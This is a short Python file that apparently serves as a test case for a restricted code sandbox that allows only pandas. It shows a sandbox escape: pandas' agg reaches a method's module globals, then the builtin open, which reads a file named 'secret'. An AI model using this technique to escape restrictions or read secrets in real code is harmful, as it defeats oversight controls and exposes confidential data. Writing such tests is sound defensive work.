"""Has a column hand out the function that unpickles it, with the globals of its module."""
# wants: read
# allows: pandas

import pandas as pd


def fit_and_eval(data):
    table = pd.Series([1]).agg("__getattribute__", 0, "__init__").__func__.__globals__
    return {"got": table["__builtins__"]["open"](data["secret"]).read()}
